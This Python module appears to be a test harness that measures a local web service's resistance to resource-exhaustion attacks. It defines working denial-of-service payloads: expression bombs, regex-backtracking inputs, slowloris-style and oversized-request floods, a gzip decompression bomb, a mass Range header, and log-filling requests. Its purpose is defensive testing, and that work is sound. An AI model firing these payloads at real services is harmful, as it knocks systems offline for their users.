"""What keeps others waiting, fills memory or a disk. All of it bounded, and none of it at once."""

import contextlib
import gzip
import socket
import statistics
import time
from pathlib import Path

from model import AttackClass, encoded

# Seconds that somebody else has waited: then it has succeeded. The second is a busy machine's.
PATIENCE = {"before": 0.6, "after": 1.0}
TRIES = {"before": 1, "after": 5}
WAIT = "others wait"
LEAST = 0.25     # and so much longer than when it is quiet
MEMORY = 100 << 20
THREADS = 100
DISK = 256 << 10
CONNECTIONS = 150


# --- what is seen ---------------------------------------------------------------------------------

def status_of(pid, field):
    with contextlib.suppress(OSError, IndexError):
        text = Path(f"/proc/{pid}/status").read_text(encoding="ascii", errors="replace")
        return int(text.partition(f"{field}:")[2].split()[0])
    return 0


def peak(target):
    """The most memory that its processes have had, in bytes, each at its time."""
    return sum(status_of(pid, "VmHWM") for pid in target.pids()) << 10


def threads(target):
    return sum(status_of(pid, "Threads") for pid in target.pids())


def wait_of(target, path):
    began = time.monotonic()
    with contextlib.suppress(OSError):
        if target.ask(path, source="127.0.8.1", timeout=PATIENCE[target.name]).status:
            return time.monotonic() - began
    return 2 * PATIENCE[target.name]


def victims(target):
    """How long somebody else waits: for another route, or for the same one."""
    waited = wait_of(target, "/?name=Vic")
    if waited > PATIENCE[target.name]:
        return waited
    return max(waited, wait_of(target, "/calculate?expr=1%2B1"))


class Watch:
    """As a context: what an attack has cost when it ends. `evidence` is what of it is too much."""

    def __init__(self, target, quiet):
        self.target, self.quiet = target, quiet
        self.pids, self.memory, self.threads = set(target.pids()), peak(target), threads(target)

    def evidence(self):
        waited = victims(self.target)
        gone = self.pids - set(self.target.pids())
        grown = 0 if gone else peak(self.target) - self.memory
        more = threads(self.target) - self.threads
        if gone:
            return "a process of it has ended"
        if waited > max(PATIENCE[self.target.name], self.quiet + LEAST):
            return WAIT
        if grown > MEMORY:
            return f"{grown >> 20} MiB more of memory"
        return f"{more} threads more" if more > THREADS else ""


def is_quiet_again(target, patience=10):
    deadline = time.monotonic() + patience
    while victims(target) > PATIENCE[target.name]:
        if time.monotonic() > deadline:
            return False
    return True


def tried(target, quiet, make):
    """
    One attempt. That others wait is a success if they do so each time, for a machine may be busy,
    or if that does not end; all else that is seen is one at once.
    """
    for _ in range(TRIES[target.name]):
        watch = Watch(target, quiet)
        with contextlib.ExitStack() as held:
            with contextlib.suppress(OSError):
                make(target, held)
            evidence = watch.evidence()
        if target.name == "before":
            target.restart()  # it may be at it still
        if evidence != WAIT or target.name == "after" and not is_quiet_again(target):
            return evidence
    return evidence


def each_by(make):
    def run(target, rows):
        quiet = statistics.median(victims(target) for _ in range(5))
        return [tried(target, quiet, lambda t, held, row=row: make(t, held, row)) for row in rows]
    return run


# --- expressions ----------------------------------------------------------------------------------

BOMBS = {
    "a tower": "9**9**9", "a higher one": "9**9**9**9", "a power of ten": "10**10**9",
    "a power of a sum": "2**(2**33+1)", "a power of a power": "(2**9999)**99999",
    "a shift": "1<<(10**10)", "two shifts": "(1<<(10**8))<<(10**9)",
    "products": "*".join(["(9**99999)"] * 60), "a product of towers": "(9**9**8)*(9**9**8)",
    "a remainder of a tower": "9**9**9%7", "a quotient": "(9**9**8)//(7**9**7)",
    "a text of it": "str(3**(10**7))", "a long text": "'a'*(10**9)", "a long list": "[0]*(10**9)",
    "bytes": "b'a'*(10**9)", "a text, twice": "('a'*(10**8))*20", "a tuple": "(0,)*(10**9)",
    "a width": "'%0500000000d' % 1", "a width in a form": "f'{1:>500000000}'",
    "a range": "sum(range(10**11))", "a list of a range": "list(range(10**8))",
    "a search": "10**11 in iter(range(10**12))", "for ever": "any(iter(int, 1))",
    "the greatest of many": "max(range(10**11))",
    "a factorial": "__import__('math').factorial(10**7)",
    "a set": "set(range(10**8))", "sorted": "sorted(range(10**8,0,-1))",
    "all of for ever": "all(x is not None for x in iter(object,1)) or [x for x in iter(int,1)]",
    "digits": "int('9'*4000)**(10**6)", "a sleep": "[__import__('time').sleep(0)]*(10**9)",
    "deep brackets, and long": "[[0]*(10**5)]*(10**4)*1000",
}


def explode(target, held, row):
    """Sent, and not waited for."""
    ask_and_leave(target, held, f"/calculate?expr={encoded(row.payload)}")
    time.sleep(0.15)


def ask_and_leave(target, held, path):
    connection = held.enter_context(
        socket.create_connection(("127.0.0.1", target.port), 5, ("127.0.8.2", 0)))
    connection.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
    return connection


# --- patterns -------------------------------------------------------------------------------------

PATTERNS = {
    "a long name with a wrong end": "/?name=" + "a" * 60 + "%21",
    "digits with a wrong end": "/?name=" + "1" * 60 + "%21",
    "Greek letters with a wrong end": "/?name=" + encoded("\u03b1" * 60 + "!"),
    "two words with a wrong end": "/?name=" + "a" * 40 + "+" + "a" * 40 + "%21",
    "a name with a new line": "/?name=" + "b" * 70 + "%0a%0a",
    "a name with a bracket": "/?name=" + "c" * 70 + "%7b%7b%7d%7d%3c",
    "blanks between": "/?name=" + "d+" * 60 + "%21", "underscores": "/?name=" + "_" * 60 + "-",
}


def match(target, held, row):
    ask_and_leave(target, held, row.payload)
    time.sleep(0.15)


# --- connections, and what they carry -------------------------------------------------------------

def hold(data, count=CONNECTIONS):
    """So many connections, each with this and no more."""
    def make(target, held, _=None):
        for number in range(count):
            connection = held.enter_context(socket.create_connection(
                ("127.0.0.1", target.port), 5, (f"127.0.9.{number % 250 + 1}", 0)))
            connection.sendall(data)
    return make


def pour(*parts, repeat=1):
    """Much of it on one connection, until the other end has had enough."""
    def make(target, held, _=None):
        connection = held.enter_context(
            socket.create_connection(("127.0.0.1", target.port), 5, ("127.0.8.3", 0)))
        connection.settimeout(2)
        for part in [*parts[:-1], *[parts[-1]] * repeat]:
            connection.sendall(part)
        with contextlib.suppress(OSError):
            connection.recv(1024)
    return make


GET = b"GET /?name=Ada HTTP/1.1\r\nHost: localhost\r\n"
POST = b"POST /?name=Ada HTTP/1.1\r\nHost: localhost\r\n"
MUCH = b"x" * (1 << 20)
BODY = 120 << 20
FLOODS = {
    "idle connections": hold(b""), "half a line": hold(b"GET /?na"),
    "a line": hold(b"GET / HTTP/1.1\r\n"), "half of the headers": hold(GET),
    "half a header": hold(GET + b"X-A: "), "connections that are kept": hold(GET + b"\r\n"),
    "half a body": hold(POST + b"Content-Length: 100000\r\n\r\nx"),
    "no body": hold(POST + b"Content-Length: 100000\r\n\r\n"),
    "half a chunk": hold(POST + b"Transfer-Encoding: chunked\r\nContent-Length: 50\r\n\r\nff\r\nx"),
    "the start of TLS": hold(b"\x16\x03\x01\x02\x00"),
    "what waits for an echo": hold(b"GET /ping?ip=198.51.100.66 HTTP/1.1\r\nHost: localhost\r\n"
                                   b"\r\n"),
    "a header without an end": pour(GET + b"X-A: ", MUCH, repeat=120),
    "a name without an end": pour(GET, MUCH, repeat=120),
    "a line without an end": pour(b"GET /?name=", MUCH, repeat=120),
    "headers without an end": pour(GET, b"".join(b"X-%d: %s\r\n" % (n, b"y" * 90)
                                                 for n in range(10000)), repeat=1),
    "a large body": pour(POST + b"Content-Length: %d\r\n\r\n" % BODY, MUCH, repeat=120),
    "a body that grows": pour(
        POST + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(
            bomb := gzip.compress(b"\0" * BODY, 9)), bomb),
    "many ranges": pour(b"GET /console/index.html HTTP/1.1\r\nHost: localhost\r\nRange: bytes=" +
                        b",".join([b"0-"] * 3_000_000) + b"\r\n\r\n"),
    "a cookie": pour(GET + b"Cookie: ", MUCH, repeat=120),
    "a body that is put": pour(b"PUT /console/nothing/x HTTP/1.1\r\nHost: localhost\r\n"
                               b"Content-Length: %d\r\n\r\n" % BODY, MUCH, repeat=120),
}

# --- disks ----------------------------------------------------------------------------------------

LONG = "x" * 300_000
FILLINGS = {
    "a long name": lambda t: t.ask(f"/?name={LONG}"),
    "a long path": lambda t: t.ask(f"/{LONG}"),
    "a long agent": lambda t: t.ask("/?name=Ada", User_Agent=LONG),
    "where from, at length": lambda t: t.ask("/?name=Ada", Referer=LONG),
    "a long query of no route": lambda t: t.ask(f"/nowhere?{LONG}"),
    "a long filter": lambda t: t.ask(f"/audit?debug=1&q={LONG}"),
    "a long address": lambda t: t.ask("/?name=Ada", X_Forwarded_For=LONG),
    "a long expression": lambda t: t.ask(f"/calculate?expr=%22{LONG}%22"),
}


def written(target):
    """Bytes of the log, the journals and the trail."""
    folders = [target.state] if target.name == "before" else [
        target.state / "log", target.state / "journal"]
    return sum(path.stat().st_size for folder in folders for path in folder.rglob("*")
               if path.is_file())


def run_fillings(target, rows):
    seen = []
    for row in rows:
        before = written(target)
        with contextlib.suppress(OSError):
            FILLINGS[row.payload](target)
        time.sleep(0.05)
        grown = written(target) - before
        seen.append(f"{grown >> 10} KiB by one request" if grown > DISK else "")
    return seen


def flood(target, held, row):
    FLOODS[row.payload](target, held)


CLASSES = [
    AttackClass("expression-bombs", "Expressions that never end", ["expression-bomb",
                "holds-a-program"], "limits", "others wait, a program ends, or its memory grows",
                BOMBS, each_by(explode), alone=True),
    AttackClass("slow-patterns", "Texts that take a pattern long", ["name-as-markup",
                "holds-a-program"], "validation", "others wait, or a program ends", PATTERNS,
                each_by(match), alone=True),
    AttackClass("floods", "Connections, and what they carry", ["flood", "request-crowded-out",
                "passed-on-stalled"], "edge", "others wait, threads or memory grow, or a process "
                "ends", {each: each for each in FLOODS}, each_by(flood), alone=True),
    AttackClass("filling", "What fills a disk", ["log-fills", "journal-fills", "database-fills"],
                "edge", "256 KiB of log, journal or trail by one request",
                {each: each for each in FILLINGS}, run_fillings),
]
